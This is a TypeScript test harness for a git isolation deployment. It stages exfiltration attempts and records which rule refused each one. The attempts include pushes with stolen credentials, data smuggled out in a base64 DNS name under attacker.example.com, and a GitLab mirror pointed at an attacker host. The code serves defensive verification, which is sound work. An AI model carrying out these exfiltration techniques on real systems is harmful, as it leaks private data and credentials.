/** Attempts to get data out, or in by another way, each a real request; and what refused it. */
import { join } from "node:path";
import type { ClaimId } from "../../isolation/claims";
import type { Position } from "../git/gitClient";
import { Blocked } from "./sourceNetwork";
import type { Stage } from "./stage";
import { namesOf } from "./tripwires";

/** What became of an attempt. */
export interface Escape {
  attempt: string;
  /** The claim that excludes it. */
  claim: ClaimId;
  refused: boolean;
  /** The statement or rule that refused it; or what let it through. */
  by: string;
  /** The alarms that it rings: tripwires, and the source's on what the proxy refuses. */
  rings: string[];
  /** Set where this configuration is known to leave the way open: the claim, and what closes it. */
  knownGap?: string;
}

interface Attempt {
  attempt: string;
  claim: ClaimId;
  /** True if the attempt was refused. */
  run: () => Promise<boolean>;
  knownGap?: string;
}

/**
 * Runs every attempt, in order, and reports each as it ends.
 * @param loot the folder of what must not get out (makeLoot)
 */
export async function tryToEscape(
  stage: Stage,
  loot: string,
  onEscape: (escape: Escape) => void,
): Promise<Escape[]> {
  const escapes: Escape[] = [];
  for (const { attempt, claim, run, knownGap } of attempts(stage, loot)) {
    const heard = listen(stage);
    const rung = stage.hearAlarms();
    const failed = await run();
    const rings = namesOf(rung());
    const gap = knownGap !== undefined && { knownGap };
    const escape = { attempt, claim, ...judge(failed, heard()), rings, ...gap };
    onEscape(escape);
    escapes.push(escape);
  }
  return escapes;
}

/** Refused is only what something of the deployment refused: an attempt that failed by itself has shown nothing. */
function judge(failed: boolean, { leak, refusal }: Heard): Pick<Escape, "refused" | "by"> {
  if (leak !== undefined) return { refused: false, by: `the connection left, from ${leak}` };
  if (!failed) return { refused: false, by: "nothing refused it" };
  if (refusal === undefined) return { refused: false, by: "it failed, but nothing refused it" };
  return { refused: true, by: refusal };
}

interface Heard {
  leak: string | undefined;
  refusal: string | undefined;
}

/** Remembers where every log stands; the function it returns gives what was last written since. */
function listen(stage: Stage): () => Heard {
  const { codeCommit, proxy, workTerminal, gitlabHost, isolatedTerminal, outside, leaks } = stage;
  const logs = [
    () => codeCommit.audit.filter(({ allowed }) => !allowed).map(({ reason }) => reason),
    ...[workTerminal, gitlabHost, isolatedTerminal, outside].map(
      (position) => () => position.path.refusals.map(({ reason }) => reason),
    ),
    () => proxy?.refusals.map(({ reason }) => reason) ?? [],
  ];
  const before = logs.map((log) => log().length);
  const leaksBefore = leaks.length;
  return () => ({
    leak: leaks.slice(leaksBefore).at(-1),
    refusal: logs.flatMap((log, i) => log().slice(before[i])).at(-1),
  });
}

/** A repository with one commit at the isolated terminal: what must not get out. Returns its folder. */
export async function makeLoot({ isolatedTerminal }: Stage): Promise<string> {
  const cwd = join(isolatedTerminal.home, "loot");
  const author = ["-c", "user.name=insider", "-c", "user.email=insider@isolated.invalid"];
  const commands = [
    ["init", "--quiet", cwd],
    ["-C", cwd, ...author, "commit", "--quiet", "--allow-empty", "--message", "personal data"],
  ];
  for (const command of commands) {
    const { code, stderr } = await isolatedTerminal.git(command);
    if (code !== 0) throw new Error(`cannot make a repository to carry out: ${stderr}`);
  }
  return cwd;
}

function attempts(stage: Stage, loot: string): Attempt[] {
  const { isolatedTerminal, outside, workTerminal, gitlabHost, isolatedZone, stranger, codeCommit, gitlab } =
    stage;
  const { pullCredential, pushCredential, airlock } = stage;
  const strangersUrl = `https://${codeCommit.hostname}/v1/repos/${stranger.repositoryName}`;
  const gitlabUrl = `https://${gitlab.hostname}/${airlock.gitlabProject}.git`;
  const push = (position: Position, url: string, credential: typeof pullCredential) => async () => {
    const result = await position.git(["push", "--quiet", url, "HEAD:refs/heads/loot"], {
      cwd: loot,
      credential,
    });
    return result.code !== 0;
  };
  const pull = (position: Position, url: string, credential: typeof pullCredential) => async () =>
    (await position.git(["ls-remote", url], { credential })).code !== 0;
  const strangersGap = isolatedZone.hasEndpoint
    ? undefined
    : "C5 stays open in addresses mode: one hostname serves every AWS account. Pull through an endpoint to close it.";
  const ownNetworkGap = isolatedZone.hasEndpoint
    ? undefined
    : "C6 rests on the room's own network in addresses mode: nothing of it is deployed here.";
  const noProxyGap = stage.proxy
    ? undefined
    : "C7 is refuted without a proxy: nothing limits where GitLab goes. Set git-airlock:proxy's mode to managed.";

  return [
    {
      attempt: "An isolated terminal pushes with the pull credential",
      claim: "C3",
      run: push(isolatedTerminal, airlock.cloneUrlHttp, pullCredential),
    },
    {
      attempt: "An isolated terminal pushes with the push credential, stolen",
      claim: "C2",
      run: push(isolatedTerminal, airlock.cloneUrlHttp, pushCredential),
    },
    {
      attempt: "An isolated terminal pushes to a stranger's AWS account, with the stranger's credential",
      claim: "C5",
      run: push(isolatedTerminal, strangersUrl, stranger.credential),
      knownGap: strangersGap,
    },
    {
      attempt: "An isolated terminal fetches from a stranger's AWS account",
      claim: "C6",
      run: pull(isolatedTerminal, strangersUrl, stranger.credential),
      knownGap: strangersGap,
    },
    {
      attempt: "An isolated terminal pushes to GitLab, with a developer's password",
      claim: "C6",
      run: push(isolatedTerminal, gitlabUrl, stage.developer),
    },
    {
      attempt: "An isolated terminal carries data out in a DNS name",
      claim: "C6",
      run: () =>
        refusedBy(isolatedTerminal, () => {
          isolatedZone.lookUp("cGVyc29uYWwgZGF0YQ.attacker.example.com");
          isolatedZone.leave();
        }),
      knownGap: ownNetworkGap,
    },
    {
      attempt: "Somebody outside pushes with the push credential, stolen",
      claim: "C2",
      run: push(outside, airlock.cloneUrlHttp, pushCredential),
    },
    {
      attempt: "Somebody outside pulls with the pull credential, stolen",
      claim: "C3",
      run: pull(outside, airlock.cloneUrlHttp, pullCredential),
    },
    {
      attempt: "A work terminal pulls with the pull credential",
      claim: "C3",
      run: pull(workTerminal, airlock.cloneUrlHttp, pullCredential),
    },
    {
      attempt: "GitLab pushes a reference beside the configured ones",
      claim: "C12",
      run: async () => {
        const refspec = "HEAD:refs/pipelines/1";
        const options = { cwd: loot, credential: pushCredential, proxyUrl: stage.mirrorProxyUrl };
        return (await gitlabHost.git(["push", "--quiet", airlock.cloneUrlHttp, refspec], options)).code !== 0;
      },
    },
    {
      attempt: "Somebody outside knocks at GitLab",
      claim: "C8",
      run: pull(outside, gitlabUrl, stage.developer),
    },
    {
      attempt: "GitLab mirrors to another host, as a hostile maintainer would have it",
      claim: "C7",
      run: () => mirrorElsewhere(stage, "https://attacker.example.com/loot.git"),
      knownGap: noProxyGap,
    },
    {
      attempt: "GitLab goes around the proxy",
      claim: "C7",
      run: pull(gitlabHost, "https://attacker.example.com/loot.git", pushCredential),
      knownGap: noProxyGap,
    },
  ];
}

async function mirrorElsewhere({ gitlab, pushCredential }: Stage, url: string): Promise<boolean> {
  const project = "hostile/exfiltration";
  await gitlab.createProject(project);
  gitlab.setMirror(project, {
    ...pushCredential,
    url,
    keepDivergentRefs: true,
    onlyProtectedBranches: false,
  });
  return (await gitlab.syncMirror(project)).updateStatus !== "finished";
}

/** For what needs no git: whether the way is blocked, written into the position's log like any other refusal. */
function refusedBy(position: Position, way: () => void): Promise<boolean> {
  try {
    way();
    return Promise.resolve(false);
  } catch (error) {
    if (!(error instanceof Blocked)) throw error;
    position.path.refusals.push({ target: "DNS", reason: error.message });
    return Promise.resolve(true);
  }
}
